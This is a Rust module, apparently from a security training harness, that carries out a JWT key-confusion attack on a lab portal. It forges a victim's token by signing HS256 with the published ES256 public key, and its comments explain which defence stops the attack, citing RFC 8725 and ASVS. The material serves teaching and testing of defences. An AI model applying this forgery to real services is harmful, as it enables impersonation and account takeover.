//! Using a public key as a shared secret. Worksheet 12.
//!
//! Start: the attacker has an ordinary account and the portal's public key, like everyone.
//!
//! Why it works: one piece of text can be two kinds of key. For ES256 the published text verifies
//! and cannot sign. For HS256 any text is a secret that does both. The weak `jwt-algorithm` lets
//! the header choose which it is.
//!
//! Proof: the API works in the victim's name for a token that was signed with published bytes.
//!
//! Stopped by `jwt-algorithm` alone: the key and the algorithm do not fit, whatever the signature
//! is. Not stopped by `jwt-signature`: the signature is right, for the wrong computation. Not by
//! `jwt-key`: it is about the other key, the shared secret. Not by `jwt-kid`: `es-1` is a key of
//! the API. A list of allowed algorithms for all keys does not help either where it names HS256 and
//! ES256.
//!
//! Refused for this program: computing the text of the key from the key set. The bytes must be the
//! ones that the server holds, and the PEM file is published as it is held.
//!
//! Source: RFC 8725 §3.1 (one algorithm for each key), ASVS 9.1.2 (no mixing of symmetric and
//! asymmetric algorithms), CWE-347. Read `src/defences/jwt_algorithm.rs` next.

use super::super::scenario::{ATTACKER, Scenario, ScenarioError, VICTIM};
use super::super::{Attack, Card, Engine, Outcome};
use super::bearer::{judge, own_parts, unexpected};
use crate::defences::policy::Name;
use async_trait::async_trait;

pub(in crate::attacks) struct KeyConfusion;

const CARD: Card = Card {
    name: "key-confusion",
    title: "A public key as a shared secret",
    engine: Engine::Http,
    victim: "Has an account, and need not be signed in.",
    means: "The attacker fetches the portal's public key, which is published for everyone. They \
            write a token in the victim's name that names this key and HS256, and sign it with the \
            text of the key as the secret, byte for byte as it was published.",
    evidence: "The profile says that the attacker is logged in as the victim.",
    stopped_by: &[&[Name::JwtAlgorithm]],
    when_stopped: "The public key is for ES256 only; the header may not choose HS256 for it.",
    shows: &["JWT-ALGCONF"],
    standards: &["ASVS 9.1.2", "CWE-347", "WSTG-SESS-10"],
};

#[async_trait]
impl Attack for KeyConfusion {
    fn card(&self) -> &'static Card {
        &CARD
    }

    async fn run(&self, scenario: &Scenario) -> Result<Outcome, ScenarioError> {
        scenario.narrate("The attacker fetches the public key and decodes their own token.");
        let mut attacker = scenario.actor("attacker");
        // A public key is meant to be public: with ES256 it can only verify. Publishing it is no
        // mistake.
        let pem = attacker.get("/jwt/public.pem").await?;
        if pem.status != 200 {
            return Err(unexpected("the public key", &pem));
        }
        // The forgery starts from a real token, so every claim is as the API expects it.
        let own = own_parts(&mut attacker, ATTACKER).await?;

        scenario.narrate(
            "The attacker signs a token in the victim's name with the text of that key as the secret.",
        );
        // The header says HS256. On the weak arm of `jwt-algorithm` the verifier takes the
        // algorithm from the header and the key from `kid`, and uses the bytes of the public key as
        // an HMAC secret. Everyone has these bytes.
        let forged = own.in_the_name_of(VICTIM).with_header("kid", PUBLIC_KEY);
        // Byte for byte: a missing line break at the end of the PEM file gives another HMAC. On the
        // strong arm each key is bound to its algorithm when the server loads it, so the header
        // cannot combine them. That is what libraries with typed keys do.
        let token = forged.hs256(pem.body.as_bytes())?;
        judge(&CARD, &mut attacker, &token, VICTIM).await
    }
}

/// The name that the key has in the published key set. It is in the key ring under that name, so
/// the look-up by `kid` succeeds and the algorithm alone is in question.
const PUBLIC_KEY: &str = "es-1";
